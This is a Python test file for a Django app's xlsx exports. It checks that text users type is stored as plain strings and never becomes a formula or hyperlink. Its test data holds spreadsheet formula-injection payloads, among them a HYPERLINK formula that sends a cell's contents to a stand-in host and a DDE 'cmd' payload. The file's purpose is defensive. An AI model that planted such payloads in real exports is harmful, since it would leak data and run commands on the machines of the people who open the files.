"""What users type comes out of every .xlsx export as text, never as a formula or a link
(issue 16 item 1): a "chức vụ" of =HYPERLINK("http://…?x="&B2,"Bấm") would otherwise be a
live formula that sends the row's neighbours to whoever made it, once the file is opened."""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from thidua.org import exports
from thidua.org.models import ImportJob, ImportKind, ImportStatus, RoleKind
from thidua.org.tests.factories import MemberFactory, make_user

# Spreadsheet programs read a cell starting with any of = + - @ as a formula.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&B2,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "http://example.invalid/",
]


def cells(content: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text(content: bytes, values: list[str]) -> None:
    """Each value is in the file as a string cell holding exactly what was typed."""
    found = {cell.value: cell for cell in cells(content) if isinstance(cell.value, str)}
    for value in values:
        assert value in found, value
        assert found[value].data_type == "s", value
        assert found[value].hyperlink is None, value
    assert not [c.coordinate for c in cells(content) if c.data_type == "f"]


def body(response) -> bytes:
    # Read to the end, which closes the temporary file; closing by hand as well would fire
    # request_finished a second time and close the PostgreSQL test connection.
    return b"".join(response.streaming_content)


def test_the_shared_writer_writes_every_string_as_text():
    response = exports.xlsx_response("x.xlsx", ["Cột"], [[value] for value in HOSTILE])
    content = b"".join(response.streaming_content)
    response.file_to_stream.close()  # no server here to close the response's temporary file
    assert_text(content, HOSTILE)


@pytest.mark.parametrize("value", HOSTILE)
def test_member_export_keeps_a_typed_position_as_text(federation, login, value):
    MemberFactory(full_name="Nguyễn Văn An", unit=federation.school, position=value)
    client = login(make_user("lb_officer", RoleKind.EMULATION_OFFICER, federation.long_bien))
    response = client.get(reverse("org:member_export"))
    assert response.status_code == 200
    assert_text(body(response), [value])


def test_import_errors_keep_the_file_values_as_text(federation, login):
    user = make_user("school_chair", RoleKind.GRASSROOTS_CHAIR, federation.school)
    job = ImportJob.objects.create(
        kind=ImportKind.MEMBERS,
        file_name="doan-vien.xlsx",
        actor=user,
        status=ImportStatus.FAILED,
        errors=[{"row": n, "column": value, "message": value} for n, value in enumerate(HOSTILE, start=2)],
    )
    response = login(user).get(reverse("org:import_job_errors", args=[job.pk]))
    assert_text(body(response), HOSTILE)


def test_no_module_opens_a_workbook_except_through_the_shared_writer():
    """Exports added later go through org.exports.workbook (or xlsx_response), which is what
    keeps typed text as text; openpyxl, which turns "=…" into a formula too, writes nothing."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path == root / "org" / "exports.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"xlsxwriter\.Workbook\(|from openpyxl import .*Workbook\b|openpyxl\.Workbook\(", source):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
